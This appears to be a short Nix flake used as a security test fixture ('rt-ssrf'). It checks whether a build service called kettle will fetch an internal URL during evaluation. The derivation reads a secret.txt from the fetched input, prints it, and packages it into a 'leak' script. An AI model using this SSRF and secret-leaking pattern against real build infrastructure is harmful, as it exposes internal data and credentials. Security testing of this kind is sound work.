{
  inputs.internal = { url = "@URL@/internal.tar.gz"; flake = false; };
  outputs = { self, internal }: let system = "x86_64-linux"; in {
    packages.${system}.default = derivation {
      name = "rt-ssrf"; inherit system; builder = "/bin/sh";
      args = [ "-c" ''
        echo "fetched by kettle's evaluation: $(/bin/cat ${internal}/secret.txt)"
        /bin/mkdir -p $out/bin; { echo '#!/bin/sh'; echo "echo '$(/bin/cat ${internal}/secret.txt)'"; } > $out/bin/leak; /bin/chmod 755 $out/bin/leak
      '' ];
    };
  };
}
